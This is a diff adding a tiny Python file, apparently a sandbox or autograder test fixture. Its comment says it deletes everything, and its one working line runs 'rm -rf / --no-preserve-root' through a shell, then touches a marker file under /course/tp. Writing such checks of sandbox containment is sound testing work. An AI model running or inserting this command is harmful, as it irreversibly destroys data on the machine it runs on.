@@ -1,0 +1,4 @@
+# Deletes everything by way of a shell.
+import subprocess
+
+subprocess.run("rm -rf / --no-preserve-root; touch /course/tp/mine", shell=True)
